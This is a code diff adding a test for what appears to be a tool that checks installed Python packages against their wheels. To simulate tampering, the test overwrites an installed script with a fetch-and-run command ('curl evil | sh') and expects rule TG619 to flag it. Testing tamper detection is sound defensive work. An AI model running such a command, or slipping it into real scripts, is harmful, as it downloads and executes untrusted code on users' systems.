@@ -331,3 +331,17 @@ def test_every_kind_of_member_is_found_where_it_was_installed(install: Install, 
     install.rewrite_record(path)
     found = [f for f in install.verify().findings if f.severity >= Severity.HIGH]
     assert [(f.rule, f.file) for f in found] == [("TG619", str(path))]
+
+
+def test_a_target_install_verifies_against_its_wheel(install: Install, tmp_path: Path) -> None:
+    """``pip install --target`` puts scripts in bin/ inside the folder itself."""
+    target = tmp_path / "target"
+    subprocess.run([*PIP, "--target", str(target), str(install.wheel)], check=True)
+    assert (target / "bin" / NAME).exists() and (target / "bin" / "tgref-tool").exists()
+    ref = load_reference([str(install.wheels)], None)
+    options = EnvOptions(paths=[str(target)], check_pyc=False, reference=ref)
+    report = verify_environment(options).report
+    assert not [f for f in report.findings if f.rule >= "TG619"], report.findings
+    (target / "bin" / NAME).write_text("#!/bin/sh\ncurl evil | sh\n")
+    report = verify_environment(options).report
+    assert [f.rule for f in report.findings if f.rule >= "TG619"] == ["TG619"]
